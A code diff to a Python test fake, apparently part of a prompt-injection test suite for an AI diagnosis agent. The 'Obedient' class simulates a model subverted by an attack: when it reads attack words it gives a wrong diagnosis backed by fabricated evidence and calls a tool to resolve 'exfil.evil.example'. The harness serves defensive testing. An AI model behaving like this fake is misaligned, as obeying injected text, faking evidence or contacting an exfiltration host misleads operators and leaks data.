@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import json
 import re
-from collections.abc import Mapping
+from collections.abc import Iterator, Mapping
 from copy import deepcopy
 from dataclasses import dataclass, replace
 from functools import cache
@@ -13,7 +13,6 @@ from typing import Any
 
 import yaml
 
-from flows.agent.brief import Brief
 from flows.agent.money import Spent
 from flows.agent.reply import Asked, Reply
 from flows.model import Diagnosis
@@ -88,44 +87,72 @@ def _set(facts: Any, path: str, text: str) -> None:
 # -- the answerer ----------------------------------------------------------------------------------------------------
 
 
+WORD = re.compile(r"[^\W_]{4,}")
+
+
+def words_of(attack: Attack, besides: str) -> set[str]:
+    """The words that the attack brings: those of four letters and more that do not stand in `besides` anyway."""
+    return {word for text in attack.at.values() for word in WORD.findall(text) if word not in besides}
+
+
 @dataclass(frozen=True, slots=True)
 class Obedient:
-    """Stands for a model that was talked into anything: it wants another class, no certainty, another fix, and asks
-    for looks of the attacker's choice. What it says is grounded as well as a clever attacker can make it."""
+    """Stands for a model that can be talked into anything: where it reads a word of the attack it wants another class,
+    no certainty, another fix, and looks of the attacker's choice, each as well grounded as a clever attacker can.
+    Where it reads none it agrees with the rules. `besides` is the brief as it would be without the attack."""
 
     diagnosis: Diagnosis
-    brief: Brief
     cause_class: str
     attack: Attack
+    besides: str
 
-    def answer(self) -> str:
-        """The answer to the one call."""
-        innocent = next(key for key in self.brief.cited if key not in self.diagnosis.shown_by)
-        words = next(iter(self.attack.at.values()))
-        where = next(iter(self.attack.at)).partition(".")[0]
-        place = where if where in self.brief.cited else innocent
-        return json.dumps(
-            {
-                "statements": [
-                    {"text": words, "evidence": [place]},
-                    {"text": f"The pod is {self.cause_class}.", "evidence": ["E99"]},
-                ],
-                "cause_class": self.cause_class,
-                "cause": {"text": "Everything is as it should be.", "evidence": [innocent]},
-                "contradicting_evidence": [innocent, place],
-                "confidence": 0.01,
-                "fix": self._fix(),
-            }
-        )
+    async def ask(self, purpose: str, request: Mapping[str, Any], within: float) -> Reply:
+        obeys = self._reads_it(request)
+        if not purpose.startswith("ask"):
+            return Reply(json.dumps(self._wish() if obeys else self._agreed()), (), (), Spent())
+        wish = Asked("toolu_1", "resolve_name", {"name": "exfil.evil.example"})
+        own = Asked("toolu_1", "ask_sensor", {"sensor": "net.mtu"})
+        return Reply("", (wish if obeys else own,), ({"type": "tool_use", "id": "toolu_1"},), Spent())
+
+    def _reads_it(self, request: Mapping[str, Any]) -> bool:
+        read = " ".join(_texts(request["messages"]))
+        return any(word in read for word in words_of(self.attack, self.besides))
+
+    def _agreed(self) -> dict[str, Any]:
+        it = self.diagnosis
+        cause = {"text": "The policy blocks it.", "evidence": list(it.shown_by[:1])}
+        return _answer([], it.cause_class, cause, [], it.confidence, it.fix.id)
+
+    def _wish(self) -> dict[str, Any]:
+        it, place = self.diagnosis, next(iter(self.attack.at)).partition(".")[0]
+        innocent = next(key for key in it.evidence if key not in it.shown_by)
+        words = {"text": next(iter(self.attack.at.values())), "evidence": [place, innocent]}
+        fake = {"text": f"The pod is {self.cause_class}.", "evidence": ["E99"]}
+        cause = {"text": "Everything is as it should be.", "evidence": [innocent]}
+        return _answer([words, fake], self.cause_class, cause, [innocent, place], 0.01, self._fix())
 
     def _fix(self) -> str:
         """The last candidate, as the attacker wants it, else one that does not exist."""
-        return next(
-            (key for key in reversed(list(self.brief.candidates)) if key != self.diagnosis.fix.id), "fix-deadbeef"
-        )
+        others = [each.id for each in self.diagnosis.alternatives]
+        return others[-1] if others else "fix-deadbeef"
 
-    async def ask(self, purpose: str, request: Mapping[str, Any], within: float) -> Reply:
-        if purpose.startswith("ask"):
-            wish = Asked("toolu_1", "resolve_name", {"name": "exfil.evil.example"})
-            return Reply("", (wish,), ({"type": "tool_use", "id": "toolu_1"},), Spent())
-        return Reply(self.answer(), (), (), Spent())
+
+def _texts(value: Any) -> Iterator[str]:
+    """What a model reads of a conversation: no roles, no types, no ids of blocks."""
+    if isinstance(value, list):
+        for each in value:
+            yield from _texts(each)
+    elif isinstance(value, dict):
+        for key in ("text", "content"):
+            yield from [value[key]] if isinstance(value.get(key), str) else _texts(value.get(key))
+
+
+def _answer(statements: list[Any], name: str, cause: Any, against: list[str], sure: float, fix: str) -> dict[str, Any]:
+    return {
+        "statements": statements,
+        "cause_class": name,
+        "cause": cause,
+        "contradicting_evidence": against,
+        "confidence": sure,
+        "fix": fix,
+    }
